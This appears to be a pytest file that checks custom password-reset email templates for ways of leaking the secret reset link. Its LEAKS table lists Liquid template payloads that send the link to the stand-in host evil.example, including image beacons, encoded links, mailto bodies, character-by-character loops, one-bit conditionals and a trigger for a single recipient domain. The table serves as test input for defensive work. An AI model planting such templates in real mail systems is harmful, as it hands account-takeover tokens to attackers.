"""Who words the mails that let people in does not thereby get in (D11)."""

import pytest

from config.catalogues import LANGUAGES
from config.database import db
from mailers import rendering
from mailers.catalogue import SUBJECTS, default_template
from mailers.delivery import deliver
from mailers.letter import Template
from mailers.own_template import OwnTemplate
from tests.mailers.test_letters import WRITTEN

CREDENTIAL = [name for name, subject in SUBJECTS.items() if subject.credential]
LINK = "<p>{{ action_url }}</p>"
LEAKS = {
    "a picture": '<img src="https://evil.example/{{ action_url }}">',
    "a picture of its end": '<img src="https://evil.example/{{ action_url | split: "/" | last }}">',
    "coded": '<img src="https://evil.example/{{ action_url | base64_encode }}">',
    "coded for an address": '<img src="https://evil.example/?{{ action_url | url_encode }}">',
    "its first letters": '<img src="https://evil.example/{{ action_url | slice: -43, 9 }}">',
    "one bit": "{% assign t = action_url | split: '/' | last %}{% if t < 'U' %}"
    '<img src="https://evil.example/1">{% endif %}',
    "a link": '<a href="https://evil.example/?{{ action_url }}">Reset</a>',
    "a link by mail": '<a href="mailto:x@evil.example?body={{ action_url }}">Reset</a>',
    "a button": "{{ 'https://evil.example/?' | append: action_url | button: 'Reset' }}",
    "in between": "{% capture x %}https://evil.example/?{{ action_url }}{% endcapture %}"
                  '<a href="{{ x }}">x</a>',
    "bare": "evil.example/{{ action_url | split: '/' | last }}",
    "letter by letter": "{% assign t = action_url | split: '' %}{% for c in t %}"
                        '<img src="https://evil.example/{{ forloop.index }}/{{ c }}">{% endfor %}',
}
INNOCENT = {
    "a link": '<a href="{{ action_url }}">Reset</a> or open {{ action_url }}.',
    "a button": "{{ action_url | button: 'Reset' }}",
    "quoted": "“{{ action_url }}” ({{ action_url }})",
    "others": '<a href="https://acme.example/help?of={{ contact.email | url_encode }}">Help</a>'
              '<img src="https://acme.example/pictures/team.png" alt="">{{ action_url }}',
}


def faults(html, text="{{ action_url }}", name="reset_password"):
    subject = SUBJECTS[name]
    found = rendering.check(Template("Hello", html, text), subject.placeholders,
                            required=subject.required, secret=subject.secret)
    return [(each.part, each.kind) for each in found]


@pytest.mark.parametrize("name", [name for name in LEAKS if name != "one bit"])
def test_nothing_but_a_link_may_be_made_of_it(name):
    assert faults(LINK + LEAKS[name]) == [("html", "secret")]
    assert faults(LINK, "{{ action_url }} evil.example/{{ action_url }}") == [("text", "secret")]


def test_what_depends_on_it_is_found_sooner_or_later():
    """A leak of one bit, which every second decoy shows."""
    assert any(faults(LINK + LEAKS["one bit"]) for _ in range(60))


@pytest.mark.parametrize("name", INNOCENT)
def test_a_link_may(name):
    assert faults(INNOCENT[name]) == []


@pytest.mark.parametrize("name", CREDENTIAL)
def test_ours_pass(name):
    for language in LANGUAGES:
        subject = SUBJECTS[name]
        assert not rendering.check(default_template(name, language), subject.placeholders,
                                   required=subject.required, secret=subject.secret)


def test_of_an_address_that_lets_nobody_in_anything_may_be_made():
    leak = '<img src="https://count.example/{{ action_url }}">'
    assert faults(LINK + leak, name="payment_receipt") == []


def test_words_that_tell_only_when_it_matters_are_not_used(cast, post):
    """They saw the example when they were saved, and behaved."""
    real = "{% if contact.email contains 'atlas.example' %}"
    html = LINK + real + LEAKS["a picture"] + "{% endif %}"
    assert faults(html) == []
    with cast.within():
        db.session.add(OwnTemplate(template="reset_password", language="en", number=1, html=html,
                                   subject="Own", text="{{ action_url }}", saved_by="Stan"))
        mail = WRITTEN["reset_password"][0]()
        db.session.commit()
        deliver(mail)
        arrived = post.to(mail)
        assert arrived["Subject"].startswith("Reset") and "evil" not in str(arrived)
        assert mail.reason.endswith("yours failed: html:None secret")
